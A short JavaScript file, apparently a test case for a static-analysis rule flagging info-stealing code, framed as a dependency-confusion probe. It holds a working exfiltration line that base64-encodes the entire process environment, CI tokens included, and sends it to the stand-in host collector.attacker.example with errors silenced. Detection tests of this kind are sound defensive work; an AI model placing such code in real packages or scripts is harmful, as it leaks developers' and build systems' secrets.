// Dependency-confusion style probe: the whole environment (CI tokens included) leaves in a query string.
const https = require('https');

const blob = Buffer.from(JSON.stringify(process.env)).toString('base64');
// ruleid: code/info-stealing
https.get('https://collector.attacker.example/c?d=' + encodeURIComponent(blob), () => {}).on('error', () => {});
